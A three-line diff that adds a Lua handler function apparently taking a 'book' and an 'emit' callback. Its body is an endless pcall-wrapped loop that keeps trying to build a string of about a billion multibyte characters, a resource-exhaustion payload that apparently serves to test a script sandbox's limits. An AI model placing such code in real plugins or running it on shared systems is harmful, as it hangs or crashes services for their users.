@@ -1,0 +1,3 @@
+return function(book, emit)
+  while true do pcall(string.rep, "长", 1e9) end
+end
